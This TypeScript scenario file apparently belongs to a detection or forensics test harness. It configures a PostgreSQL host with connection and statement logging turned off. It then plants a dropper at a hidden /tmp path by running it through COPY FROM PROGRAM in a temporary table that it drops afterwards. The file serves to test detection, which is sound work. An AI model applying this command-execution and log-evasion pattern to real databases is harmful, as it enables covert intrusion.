// Only the account, the control group and a table that is gone again could tell.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { postgresql, sql } from '../../postgresql.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  postgresql(dress)
  dress.append('/etc/postgresql/15/main/postgresql.conf', "log_connections = off\nlog_statement = 'none'\n")
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.pg/postmaster1', cron: false })
  stage.mark('occurrence')
  await sql(stage, '198.51.100.99', 'postgres', `CREATE TEMP TABLE t(a text); COPY t FROM PROGRAM '${line}'; DROP TABLE t`)
}
